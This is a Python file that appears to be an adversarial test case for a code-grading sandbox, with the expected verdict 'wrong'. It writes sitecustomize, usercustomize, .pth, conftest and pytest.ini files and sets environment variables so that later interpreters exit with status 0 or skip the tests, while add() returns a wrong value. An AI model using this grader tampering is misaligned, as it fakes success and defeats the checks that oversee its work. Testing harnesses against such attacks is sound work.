# problem: add
# attack: plants sitecustomize.py, usercustomize.py, a .pth and variables for the next interpreter that starts here
# expect: wrong
import os

FILES = {
    "sitecustomize.py": "import os\nos._exit(0)\n",
    "usercustomize.py": "import os\nos._exit(0)\n",
    "remint-escape.pth": "import os; os._exit(0)\n",
    "pyvenv.cfg": "home = .\n",
    "python311._pth": ".\n",
    "conftest.py": "import os\nos._exit(0)\n",
    "pytest.ini": "[pytest]\naddopts = --collect-only\n",
}
for name, text in FILES.items():
    if os.path.exists("pyproject.toml"):
        break  # not a sandbox: leave the project alone
    try:
        with open(name, "x") as file:
            file.write(text)
    except OSError:
        continue
os.environ.update(PYTHONPATH=os.getcwd(), PYTHONSTARTUP="sitecustomize.py", PYTHONUSERBASE=os.getcwd())


def add(a, b):
    return 41
